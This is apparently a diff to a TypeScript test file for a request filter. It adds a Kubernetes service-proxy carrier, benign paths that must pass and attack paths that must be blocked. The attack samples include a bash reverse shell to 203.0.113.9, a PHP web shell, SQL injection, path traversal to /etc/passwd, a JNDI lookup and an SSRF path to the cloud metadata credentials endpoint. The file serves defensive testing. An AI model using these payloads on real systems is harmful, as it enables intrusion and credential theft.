@@ -3,7 +3,8 @@
  * the Wazuh dashboard's API proxy saving a rule file (detection-rules.ts isRuleFileProxySave), a form-encoded rule
  * text quoting an encoded pattern (gate.ts: its percent spelling), a Wazuh element an alert rule points at —
  * pass, and so do a panel's file saves named by route or query (file-save.ts) a logrotate file's glob
- * (sql-comments.ts) and a cron table saved whole, as text or base64 (scheduled-commands.ts isCrontabFile); the same attacks on the same routes in other fields, as other content types, and on ordinary routes dressed
+ * (sql-comments.ts) and a cron table saved whole, as text or base64 (scheduled-commands.ts isCrontabFile), and the Kubernetes service proxy's service segment (service-proxy.ts);
+ * the same attacks on the same routes in other fields, as other content types, and on ordinary routes dressed
  * in the admin shape, are blocked.
  */
 import { testCarriers, type Carrier } from './carrier-verdicts.js';
@@ -67,6 +68,8 @@ const CARRIERS: Record<string, Carrier> = {
   'cron file': form('10.0.4.12:2083', '/cpsess1234567890/execute/Fileman/save_file_content', (v) => [['dir', '/etc/cron.d'], ['file', 'shop-backup'], ['content', v], ['from_charset', 'UTF-8']]),
   'search cron text': form('shop.example.com', '/search', (v) => [['q', v]]),
   'comment base64': (v) => ({ method: 'POST', path: '/api/comments', query: '', headers: { Host: 'shop.example.com', 'Content-Type': 'application/json' }, body: JSON.stringify({ body: Buffer.from(v).toString('base64') }) }),
+  // The Kubernetes API server's service proxy (service-proxy.ts): the path is the value.
+  'service proxy path': (v) => ({ method: 'GET', path: v, query: '', headers: { Host: '127.0.0.1:8001', Accept: 'application/json' } }),
 };
 
 const CRONTAB = (job: string): string =>
@@ -96,8 +99,14 @@ const BENIGN: [string, string][] = [
   ['file manager content', LOGROTATE('intranet', 'systemctl reload intranet > /dev/null 2>&1 || true')],
   ['file manager content', LOGROTATE('shop', '[ -f /var/run/nginx.pid ] && kill -USR1 `cat /var/run/nginx.pid`')],
   ['pfsense edit base64', CRONTAB('30 2 * * * root /usr/local/bin/backup.sh shop > /var/log/backup-shop.log 2>&1')],
+  // The config-editor family's pfSense save (seed 7 000443, blocked on main 93c052d).
+  ['pfsense edit base64', 'SHELL=/bin/bash\r\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\r\nMAILTO=""\r\n15 3 * * 1-5 node /usr/bin/find /var/www/wiki/storage/tmp -type f -mtime +2 -delete\r\n*/5 * * * 1-5 node cd /opt/wiki && ./venv/bin/python manage.py clearsessions\r\n30 2 * * * node cd /opt/wiki && ./venv/bin/python manage.py clearsessions\r\n'],
   ['portainer config', CRONTAB('0 */6 * * * deploy cd /opt/shop && ./venv/bin/python manage.py clearsessions')],
   ['cron file', CRONTAB('15 * * * 0 root /usr/bin/find /var/www/shop/storage/tmp -type f -mtime +2 -delete')],
+  ['service proxy path', '/api/v1/namespaces/kubernetes-dashboard/services/https:kubernetes-dashboard:https/proxy/'],
+  ['service proxy path', '/k8s/clusters/c-g972ikpd/api/v1/namespaces/monitoring/services/https:grafana:http/proxy/api/health'],
+  ['service proxy path', '/api/v1/namespaces/observability/services/http:elasticsearch-master:9200/proxy/_cluster/health'],
+  ['service proxy path', '/api/v1/namespaces/default/pods/http:grafana-e7e7fe31e-zu79o:3000/proxy/actuator/health'],
 ];
 
 const SQLI = "' UNION SELECT username, password FROM users-- ";
@@ -167,6 +176,14 @@ const ATTACKS: [string, string][] = [
   ['search cron text', `* * * * * root /usr/local/bin/x ${SQLI}`],
   ['comment base64', CRONTAB('* * * * * root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')],
   ['comment base64', '<?php system($_GET["cmd"]); ?>'],
+  // The proxy's service segment naming an address, a lookup or a user; what follows proxy/; the shape off the API's grammar.
+  ['service proxy path', '/api/v1/namespaces/monitoring/services/http:169.254.169.254:80/proxy/latest/meta-data/iam/security-credentials/'],
+  ['service proxy path', '/api/v1/namespaces/monitoring/services/https:grafana:3000/proxy/../../../../../etc/passwd'],
+  ['service proxy path', '/api/v1/namespaces/monitoring/services/https:grafana:3000/proxy/public/plugins/x/../../../../../../etc/passwd'],
+  ['service proxy path', '/api/v1/namespaces/monitoring/services/${jndi:ldap:1389}/proxy/'],
+  ['service proxy path', '/api/v1/namespaces/../services/https:grafana:3000/proxy/..%2f..%2f..%2fetc%2fpasswd'],
+  ['service proxy path', "/api/v1/namespaces/monitoring/services/https:grafana:3000/proxy/api/search' UNION SELECT password FROM users--"],
+  ['service proxy path', '/files/https:grafana:3000/../../../etc/passwd'],
 ];
 
 testCarriers('admin saves, session 33 (issue 14)', 'passes rule files saved through the Wazuh proxy and encoded rule texts', CARRIERS, BENIGN, ATTACKS);
